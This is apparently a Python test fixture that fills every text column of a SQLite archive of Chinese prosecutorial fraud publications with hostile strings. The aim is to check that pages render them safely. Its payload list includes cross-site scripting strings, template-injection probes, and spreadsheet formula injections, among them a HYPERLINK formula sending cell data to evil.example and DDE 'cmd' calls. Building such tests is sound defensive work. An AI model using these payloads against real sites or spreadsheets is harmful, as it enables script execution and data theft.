"""A public file in which every text is hostile: what pages may hold, in every column that holds text."""

from __future__ import annotations

import json
import sqlite3
from collections.abc import Iterator, Sequence
from contextlib import closing
from itertools import cycle, islice
from pathlib import Path

from archive import schema
from tests.support import public_file
from tests.support.public_file import Made, MadeCase, MadeCopy, MadeSection

# Each would set window.pwned, or leave an element or an attribute x-pwned, if it ever became markup.
RUN = "window.pwned=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script><x-pwned>",
    "handler": f"<img src=x onerror={RUN}><x-pwned>",
    "svg": f"<svg onload={RUN}><x-pwned></svg>",
    "dialog": "<img src=x onerror=alert(1)><iframe srcdoc='<script>parent.pwned=1</script>'></iframe><x-pwned>",
    "end of title": f"</title><script>{RUN}</script><x-pwned>",
    "end of script": f"</script><script>{RUN}</script><x-pwned><!--<script>",
    "end of all": f"--></textarea></pre></style></template></select></td></table></main><x-pwned onclick={RUN}>",
    "double quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" style="color:red" x-pwned="',
    "single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x-pwned='",
    "no quote": f"x onmouseover={RUN} x-pwned",
    "javascript": f"javascript:{RUN}//",
    "javascript in disguise": f"\x01 JaVa\tScRiPt:{RUN}//",
    "data": "data:text/html,<script>opener.pwned=1;parent.pwned=1</script>",
    "vbscript": "vbscript:msgbox(1)",
    "base": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": f'<form action="javascript:{RUN}"><button formaction="javascript:{RUN}">x</button><x-pwned></form>',
    "template": "{{7*191}}{%25 7*191 %25}{{% x %}}${7*191}#{7*191}<%= 7*191 %>{{self}}",
    "format": "{0}{name}%s%(x)s{0.__class__}",
    "bidi": f"\u202e{RUN}\u2066<x-pwned>\u2069\u202c",
    "separators": f"\u2028<x-pwned>\u2029\x85\x0b\x0c\ufeff<script>{RUN}</script>",
    "nul": f"\x00<script>{RUN}</script>\x00<x-pwned>",
    "cdata": f"]]><![CDATA[<x-pwned><script>{RUN}</script>",
    "entities": f"&lt;x-pwned&gt;&#60;script&#62;{RUN}&#60;/script&#62;&amp;lt;x-pwned&amp;gt;",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula in disguise": "\u200b＠SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "markdown": f"[x](javascript:{RUN}) ![x](x) | a | <x-pwned> |",
    "marks": "\ue000\ue001\uf8ff\ufffe<mark x-pwned>\x02\x03</mark>",
}

# Columns that hold a JSON array of words.
LISTS = {"topic_terms", "keywords", "offices", "prosecutors", "authors", "short_names", "former_names"}
UNIQUE = {"slug", "url", "key"}


def publication(number: int, payload: str) -> Made:
    """A publication of every kind at once, whose pieces stand where the file says they do."""
    case = MadeCase(
        head=f"案例一\n{payload}诈骗案",
        number="案例一",
        title=f"{payload}诈骗案",
        subtitle=payload,
        keywords=(payload,),
        lead=payload,
        sections=(
            MadeSection("keywords", f"【{payload}】", payload),
            MadeSection("facts", "【基本案情】", f"诈骗{payload}骗\n{payload}"),
        ),
        closing=payload,
        offices=(payload,),
        prosecutors=(payload,),
        crimes={"fraud": payload},
        regions={"330100": payload},
    )
    cell = payload.replace("|", "｜").replace("\n", " ")
    table = f"| {cell} | 数 |\n| --- | --- |\n| {cell} | {cell} |"
    text = f"{payload}诈骗\n一、{payload}\n{table}\n{case.text}\n问：{payload}何如\n答：{payload}如此\n末{payload}"
    urls = tuple(f"https://www.yangli.example/{name}/202403/t2024030{number % 9}_{number}.shtml" for name in "ab")
    return Made(
        title=f"{payload}诈骗{number}",
        text=text,
        kind=("typical_cases", "report", "press_qa")[number % 3],
        published="2024-03-09",
        urls=urls,
        attribution=payload,
        issuer=payload,
        copies={urls[1]: MadeCopy("excerpt", payload, payload, f"{payload}\n{text}骗", payload, tier_why=payload)},
        before=(f"旧{payload}\n{text}",),
        imported=f"{text}\n有人{payload}",
        cases=(case,),
        outline=((1, f"一、{payload}"),),
        questions=(("问", f"{payload}何如", f"{payload}如此"),),
        tables=((table, payload, None),),
        crimes={"fraud": payload},
        attachment=f"https://www.yangli.example/{number}.pdf",
    )


_FIGURES = (
    """insert into figure_series (id, measure, unit, crime_id, region_code, place, period_kind, figures, publications,
       periods, first_start, last_end)
       select 's', 'm', 'u', min(id), (select min(code) from regions), 'p', 'k', 1, 1, 1, '2024', '2024' from crimes""",
    """insert into figures (id, publication_id, position, start, "end", as_written, value, unit, bound, measure,
       crime_id, region_code, damaged, sentence, series_id)
       select row_number() over (), id, 1, 0, 1, 'w', 1, 'u', 'exact', 'm', (select min(id) from crimes),
       (select min(code) from regions), 0, 's', 's' from publications""",
    """insert into contradictions (id, figure_id, other_id, other_start, other_end, other_as_written, other_value,
       other_sentence) values (1, 1, 1, 0, 1, 'w', 2, 's')""",
)
_OUTCOMES = (
    """insert or ignore into laws (id, name, short_names, kind) values ('l', 'l', '["l"]', 'law')""",
    """insert into outcomes (id, publication_id, case_id, position, defendant, fined, rights_for_life, adopted, final,
       other_case, start, "end", as_written)
       select row_number() over (), publication_id, id, 1, 'd', 0, 0, 0, 1, 0, 0, 1, 'w' from cases""",
    "insert into outcome_crimes select id, 1, (select min(id) from crimes), 'w' from outcomes",
    """insert into circumstances (id, publication_id, case_id, outcome_id, position, kind, start, "end", as_written)
       select id, publication_id, case_id, id, 1, 'k', 0, 1, 'w' from outcomes""",
    """insert into citations (id, publication_id, case_id, position, law_id, law, article, former, start, "end",
       as_written, sentence) select id, publication_id, case_id, 1, 'l', 'l', 1, 0, 0, 1, 'w', 's' from outcomes""",
)


def build(path: Path, payloads: Sequence[str]) -> Path:
    """A public file with a publication for each payload, and the payloads in turn in the rows of every text column.
    Every table has a row for each payload at least."""
    public_file.build(path, tuple(publication(number, payload) for number, payload in enumerate(payloads, 1)))
    with closing(sqlite3.connect(path)) as db:
        db.execute("update gaps set source_id = 'yangli'")  # of some kinds it is empty
        db.execute("insert into doubts select 1, min(id), null, 'kind', 'detail' from publications")
        for statement in (*_FIGURES, *_OUTCOMES):
            db.execute(statement)
        db.execute(
            "insert into withdrawn values ('w', 's', 'report', 't', 'yangli', null, '2024-03-09T00:00:00Z', 'r')"
        )
        db.execute("insert into withdrawn_pages values ('w', 1, 1, 's')")
        db.execute("insert into withdrawn_cases values (1, 'w', 'n')")
        db.execute("insert into meta values ('contact', 'c', 'd')")
        for table in schema.TABLES:
            if table.public:
                _lengthen(db, table.name, len(payloads))
        keys = [(table, column) for table, column, is_key in _columns(db) if is_key]
        for table, column in keys:
            _fill_key(db, table, column, payloads)
        for table, column, is_key in _columns(db):
            if not is_key and (table, column) not in _references(db):
                _fill(db, table, column, payloads)
        db.commit()
    return path


def _lengthen(db: sqlite3.Connection, table: str, least: int) -> None:
    """Copy the first row, with other keys, until the table has so many rows."""
    (size,) = db.execute(f'select count(*) from "{table}"').fetchone()
    columns = db.execute("select name, type, pk from pragma_table_info(?)", (table,)).fetchall()
    first = db.execute(f'select * from "{table}"').fetchone()
    for number in range(size, least):
        row = [
            value if not is_key else value + 1_000 + number if kind == "INTEGER" else f"{value}{number}"
            for value, (_, kind, is_key) in zip(first, columns, strict=True)
        ]
        db.execute(f'insert into "{table}" values ({", ".join("?" * len(row))})', row)


def _fill(db: sqlite3.Connection, table: str, column: str, payloads: Sequence[str]) -> None:
    rowids = [rowid for (rowid,) in db.execute(f'select rowid from "{table}" order by rowid')]
    for rowid, payload in zip(rowids, cycle(payloads), strict=False):
        (old,) = db.execute(f'select "{column}" from "{table}" where rowid = ?', (rowid,)).fetchone()
        new = _value(column, payload, old)
        db.execute(f'update "{table}" set "{column}" = ? where rowid = ?', (new, rowid))


def _value(column: str, payload: str, old: str | None) -> str:
    if column in LISTS:
        return json.dumps([payload, payload])
    if column == "rows":
        return json.dumps([[payload, payload], [payload]])
    if column == "text":  # other rows say where in it things stand
        return f"{old or ''}\n{payload}"
    return f"{payload}{old}" if column in UNIQUE else payload


def _fill_key(db: sqlite3.Connection, table: str, column: str, payloads: Sequence[str]) -> None:
    values = [value for (value,) in db.execute(f'select "{column}" from "{table}" order by 1')]
    pointing = [place for place, target in _references(db).items() if target == (table, column)]
    for old, payload in zip(values, islice(cycle(payloads), len(values)), strict=True):
        for place_table, place_column in [(table, column), *pointing]:
            db.execute(
                f'update "{place_table}" set "{place_column}" = ? where "{place_column}" = ?', (f"{payload}{old}", old)
            )


def _columns(db: sqlite3.Connection) -> Iterator[tuple[str, str, bool]]:
    """Every text column of the public tables, and whether rows are known by it alone."""
    for table in schema.TABLES:
        if table.public:
            found = db.execute("select name, type, pk from pragma_table_info(?)", (table.name,)).fetchall()
            keys = [name for name, _, at in found if at]
            yield from ((table.name, name, keys == [name]) for name, kind, _ in found if kind == "TEXT")


def _references(db: sqlite3.Connection) -> dict[tuple[str, str], tuple[str, str]]:
    return {
        (table.name, column): (target, target_column)
        for table in schema.TABLES
        if table.public
        for target, column, target_column in db.execute(
            'select "table", "from", "to" from pragma_foreign_key_list(?)', (table.name,)
        )
    }
